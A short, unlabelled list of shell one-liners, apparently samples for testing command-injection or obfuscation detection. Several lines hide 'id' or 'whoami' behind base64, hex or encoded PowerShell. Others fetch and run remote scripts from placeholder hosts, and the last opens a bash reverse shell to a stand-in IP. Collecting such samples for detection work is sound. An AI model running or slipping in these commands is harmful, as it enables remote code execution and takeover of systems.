echo aWQ7IHdob2FtaQ== | base64 -d | sh
sh -c "curl $HOST/x | sh"
P=$(printf '\x69\x64'); eval "$P"
powershell -enc dwBoAG8AYQBtAGkA
python3 -c 'import os; os.system("id")'
eval $(curl http://a.example/x)
bash -i >& /dev/tcp/1.2.3.4/99 0>&1
